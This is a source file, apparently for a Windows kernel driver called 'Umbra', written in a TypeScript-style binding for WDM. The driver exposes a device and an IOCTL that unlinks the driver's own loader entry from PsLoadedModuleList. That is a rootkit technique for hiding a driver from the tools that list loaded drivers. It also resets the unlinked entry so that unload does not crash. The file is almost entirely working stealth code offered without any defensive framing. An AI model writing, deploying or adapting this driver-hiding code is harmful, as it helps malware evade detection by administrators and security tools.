/*
 * Umbra: takes itself off the list of loaded drivers.
 *
 * The loader keeps a KLDR_DATA_TABLE_ENTRY for every image, in the list PsLoadedModuleList. Tools that
 * list drivers ask Windows, and Windows reads that list. A driver need not search for its own entry:
 * DRIVER_OBJECT.DriverSection points at it.
 */
import {
  CTL_CODE,
  DbgPrint,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_SECURE_OPEN,
  FILE_DEVICE_UNKNOWN,
  IO_NO_INCREMENT,
  IRP_MJ_CLOSE,
  IRP_MJ_CREATE,
  IRP_MJ_DEVICE_CONTROL,
  InitializeListHead,
  IoCompleteRequest,
  IoCreateDevice,
  IoCreateSymbolicLink,
  IoDeleteDevice,
  IoDeleteSymbolicLink,
  IoGetCurrentIrpStackLocation,
  KLDR_DATA_TABLE_ENTRY,
  METHOD_BUFFERED,
  NT_SUCCESS,
  RTL_CONSTANT_STRING,
  RemoveEntryList,
  STATUS_INVALID_DEVICE_REQUEST,
  STATUS_SUCCESS,
  cast,
  out,
} from 'wdm'
import type { DEVICE_OBJECT, DRIVER_OBJECT, IRP, ULONG, UNICODE_STRING, NTSTATUS } from 'wdm'

const IOCTL_HIDE = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const DeviceName = RTL_CONSTANT_STRING('\\Device\\Umbra')
const LinkName = RTL_CONSTANT_STRING('\\??\\Umbra')

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_CREATE] = UmbraCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLOSE] = UmbraCreateClose
  DriverObject.MajorFunction[IRP_MJ_DEVICE_CONTROL] = UmbraDeviceControl
  DriverObject.DriverUnload = UmbraUnload
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(
    DriverObject,
    0,
    DeviceName,
    FILE_DEVICE_UNKNOWN,
    FILE_DEVICE_SECURE_OPEN,
    FALSE,
    device,
  )
  if (!NT_SUCCESS(status)) return status
  status = IoCreateSymbolicLink(LinkName, DeviceName)
  if (!NT_SUCCESS(status)) IoDeleteDevice(device.value)
  return status
}

/** Tie the neighbours of the own entry to each other. */
function Hide(DriverObject: DRIVER_OBJECT): NTSTATUS {
  const entry = cast(KLDR_DATA_TABLE_ENTRY, DriverObject.DriverSection)
  RemoveEntryList(entry.InLoadOrderLinks)
  // The loader takes the entry out once more when it unloads the driver. Pointing at itself it does
  // no harm then.
  InitializeListHead(entry.InLoadOrderLinks)
  DbgPrint('Umbra: off the list\n')
  return STATUS_SUCCESS
}

function UmbraDeviceControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp).Parameters.DeviceIoControl
  if (request.IoControlCode !== IOCTL_HIDE) return Complete(Irp, STATUS_INVALID_DEVICE_REQUEST, 0)
  return Complete(Irp, Hide(DeviceObject.DriverObject), 0)
}

function UmbraCreateClose(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  return Complete(Irp, STATUS_SUCCESS, 0)
}

function Complete(Irp: IRP, Status: NTSTATUS, Information: ULONG): NTSTATUS {
  Irp.IoStatus.Status = Status
  Irp.IoStatus.Information = Information
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return Status
}

function UmbraUnload(DriverObject: DRIVER_OBJECT): void {
  IoDeleteSymbolicLink(LinkName)
  IoDeleteDevice(DriverObject.DeviceObject)
}
